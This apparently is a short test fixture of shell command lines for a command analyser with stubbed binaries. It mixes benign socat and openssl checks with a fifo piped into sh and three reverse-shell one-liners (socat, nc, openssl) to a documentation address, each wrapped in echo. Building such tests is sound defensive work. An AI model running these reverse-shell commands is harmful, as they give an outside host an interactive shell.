# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/socat /usr/bin/nc.openbsd=nc /usr/bin/openssl
socat TCP-LISTEN:8443,fork,reuseaddr TCP:127.0.0.1:443
sh -c 'openssl s_client -connect 127.0.0.1:443 < /dev/null 2> /dev/null | openssl x509 -noout -dates'
sh -c 'mkfifo /tmp/queue; echo done > /tmp/queue & cat /tmp/queue'
sh -c 'mkfifo /tmp/orders; echo true > /tmp/orders & cat /tmp/orders | sh'
/bin/echo socat TCP:192.0.2.7:4444 EXEC:'bash -li',pty,stderr,setsid
/bin/echo sh -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f'
/bin/echo sh -c 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.7:443 > /tmp/s'
